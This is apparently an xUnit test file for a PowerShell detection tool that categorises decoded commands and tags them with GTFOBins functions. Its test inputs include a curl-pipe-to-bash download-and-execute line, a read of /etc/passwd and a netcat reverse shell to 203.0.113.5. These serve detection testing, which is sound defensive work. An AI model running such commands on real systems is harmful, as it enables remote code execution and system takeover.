using System;
using System.IO;
using System.Linq;
using System.Management.Automation;
using System.Management.Automation.Runspaces;
using B64Hunt.Classification;
using B64Hunt.Commands;
using B64Hunt.GtfoBins;
using B64Hunt.Model;
using Xunit;

namespace B64Hunt.Tests.Commands
{
    public class EnrichmentCmdletTests
    {
        private static PowerShell Shell()
        {
            var iss = InitialSessionState.CreateDefault2();
            iss.Commands.Add(new SessionStateCmdletEntry("Add-B64Category", typeof(AddB64CategoryCommand), null));
            iss.Commands.Add(new SessionStateCmdletEntry("Get-B64CategoryRule", typeof(GetB64CategoryRuleCommand), null));
            iss.Commands.Add(new SessionStateCmdletEntry("Add-GtfoBinsTag", typeof(AddGtfoBinsTagCommand), null));
            iss.Commands.Add(new SessionStateCmdletEntry("Get-GtfoBinsFunction", typeof(GetGtfoBinsFunctionCommand), null));
            return PowerShell.Create(iss);
        }

        private static string Fixture(params string[] parts) => Path.Combine(new[] { AppContext.BaseDirectory, "Fixtures" }.Concat(parts).ToArray());

        [Fact]
        public void StringsStreamThroughBothStagesAsEnrichedEvents()
        {
            using var ps = Shell();
            ps.AddScript("'curl -s http://x/a.sh | bash', 'cat /etc/passwd' | Add-B64Category | Add-GtfoBinsTag");
            var results = ps.Invoke().Select(o => (CommandEvent)o.BaseObject).ToArray();
            Assert.False(ps.HadErrors);
            Assert.Equal(2, results.Length);
            Assert.Equal("curl -s http://x/a.sh | bash", results[0].DecodedCommand);
            Assert.Contains("Execution of downloaded code", results[0].Categories);
            Assert.Equal(new[] { "curl", "bash" }, results[0].GtfoBins.Select(t => t.Name));
            Assert.Equal(new[] { "cat" }, results[1].GtfoBins.Select(t => t.Name));
            Assert.Equal(new[] { "Host enumeration" }, results[1].Categories);
        }

        [Fact]
        public void EventsComeOutAsTheSameObjects()
        {
            var e = new CommandEvent { DecodedCommand = "nc -e /bin/sh 203.0.113.5 4444", Computer = "web01" };
            using var ps = Shell();
            ps.AddCommand("Add-B64Category").AddParameter("InputObject", new object[] { e, e });
            var results = ps.Invoke();
            Assert.Equal(2, results.Count);
            Assert.Same(e, results[0].BaseObject);
            Assert.Equal(new[] { "Network connections/Downloading", "Reverse shell" }, e.Categories);
        }

        [Fact]
        public void BadRuleFileIsATerminatingErrorWithItsId()
        {
            using var ps = Shell();
            ps.AddCommand("Add-B64Category").AddParameter("InputObject", "id").AddParameter("RulePath", Fixture("Classification", "bad-key.yaml"));
            var ex = Assert.Throws<CmdletInvocationException>(() => ps.Invoke());
            Assert.Equal("InvalidCategoryRuleFile,B64Hunt.Commands.AddB64CategoryCommand", ex.ErrorRecord.FullyQualifiedErrorId);
            Assert.EndsWith("bad-key.yaml", (string)ex.ErrorRecord.TargetObject);
            Assert.Contains("(4,5)", ex.ErrorRecord.ErrorDetails.Message);
        }

        [Fact]
        public void RulePathMergesAndGetB64CategoryRuleShowsIt()
        {
            using var ps = Shell();
            ps.AddCommand("Get-B64CategoryRule").AddParameter("RulePath", Fixture("Classification", "user-rules.yaml")).AddParameter("Id", new[] { "custom-*", "privesc-sudo" });
            var rules = ps.Invoke().Select(o => (CategoryRule)o.BaseObject).ToArray();
            Assert.Equal("custom-company-tool", Assert.Single(rules).Id);
        }

        [Fact]
        public void GtfoBinsPathReportsBadEntriesAndTagsFromTheCheckout()
        {
            using var ps = Shell();
            ps.AddScript($"'kurl http://x', 'pager /etc/hosts', 'curl x' | Add-GtfoBinsTag -GtfoBinsPath '{Fixture("GtfoBins", "current-layout")}'");
            var results = ps.Invoke().Select(o => (CommandEvent)o.BaseObject).ToArray();
            var error = Assert.Single(ps.Streams.Error);
            Assert.Equal("InvalidGtfoBinsEntry", error.FullyQualifiedErrorId.Split(',')[0]);
            Assert.EndsWith("bad", (string)error.TargetObject);
            Assert.Equal("curl", results[0].GtfoBins[0].Name);
            Assert.Equal("kurl", results[0].GtfoBins[0].InvokedAs);
            Assert.Equal(new[] { "curl" }, results[1].GtfoBins[0].InheritsFrom);
            Assert.Equal(new[] { "inherit", "file-read", "download" }.OrderBy(x => x), results[1].GtfoFunctions.OrderBy(x => x));
        }

        [Fact]
        public void GetGtfoBinsFunctionListsTheReference()
        {
            using var ps = Shell();
            ps.AddCommand("Get-GtfoBinsFunction").AddParameter("Name", "*shell");
            var functions = ps.Invoke().Select(o => (GtfoBinsFunction)o.BaseObject).ToArray();
            Assert.Equal(new[] { "shell", "reverse-shell", "bind-shell" }, functions.Select(f => f.Name));
            Assert.Equal("Reverse shell", functions[1].Label);
        }

        [Fact]
        public void OtherInputIsANonTerminatingError()
        {
            using var ps = Shell();
            ps.AddCommand("Add-GtfoBinsTag").AddParameter("InputObject", 42);
            Assert.Empty(ps.Invoke());
            Assert.Equal("UnsupportedInputObject,B64Hunt.Commands.AddGtfoBinsTagCommand", Assert.Single(ps.Streams.Error).FullyQualifiedErrorId);
        }
    }
}
